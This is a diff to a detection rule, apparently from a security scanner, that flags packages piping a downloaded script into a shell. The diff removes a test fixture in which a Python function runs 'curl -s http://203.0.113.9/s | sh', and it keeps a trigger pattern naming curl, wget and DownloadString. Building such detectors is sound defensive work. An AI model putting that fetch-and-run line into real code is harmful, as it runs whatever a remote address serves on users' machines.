@@ -9,13 +9,6 @@ export const pipedShell: CodeSign = {
     strength: 'strong',
     benignRate: 0.1,
     docs: 'Installation guides say it to people; a package that does it by itself runs whatever the address serves.',
-    bad: {
-      files: {
-        'acme/tool.py':
-          "import os as system\ndef go():\n    system.system('curl -s http://203.0.113.9/s | sh')\n",
-      },
-    },
-    good: { files: { 'acme/tool.py': "help = 'To install it: curl -s https://example.org/s | sh'\n" } },
   },
   trigger: /\b(?:curl|wget|iwr|Invoke-WebRequest|DownloadString)\b/i,
   alsoTrigger: processWords,
